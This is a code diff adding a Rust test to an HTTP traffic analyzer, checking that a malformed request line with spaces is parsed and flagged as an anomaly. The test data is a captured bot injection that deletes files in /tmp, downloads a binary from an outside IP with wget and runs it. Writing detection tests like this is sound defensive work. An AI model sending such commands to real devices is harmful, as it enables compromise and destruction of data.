@@ -249,3 +249,36 @@ fn response_smuggling_via_101_without_upgrade_request_is_still_a_tunnel() {
     assert_eq!(summary(&o.calls), sum(&[("GET", "/", Some(101))]));
     assert_eq!(o.stats.upgraded_connections, 1);
 }
+
+#[test]
+fn spaces_in_the_target_are_kept_and_flagged() {
+    // An injection attempt as bots send it (seen in Suricata's ERSPAN captures); strict
+    // parsers reject the line, a vulnerable device would run it: it must be reported.
+    let line: &[u8] =
+        b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm HTTP/1.1\r\n";
+    let o = run_cfg(
+        &apiscope_http::HttpConfig::default(),
+        false,
+        &[
+            c(cat(&[
+                line,
+                b"User-Agent: Hello, world\r\nHost: 127.0.0.1:80\r\n\r\n",
+            ])),
+            close(),
+        ],
+    );
+    assert_eq!(
+        summary(&o.calls),
+        sum(&[(
+            "GET",
+            "/shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm",
+            None
+        )])
+    );
+    assert_eq!(o.calls[0].request.host(), Some("127.0.0.1:80"));
+    assert_eq!(o.calls[0].request.path(), "/shell");
+    assert_eq!(
+        o.calls[0].anomalies,
+        anomalies(&[Anomaly::NonConformingHead])
+    );
+}
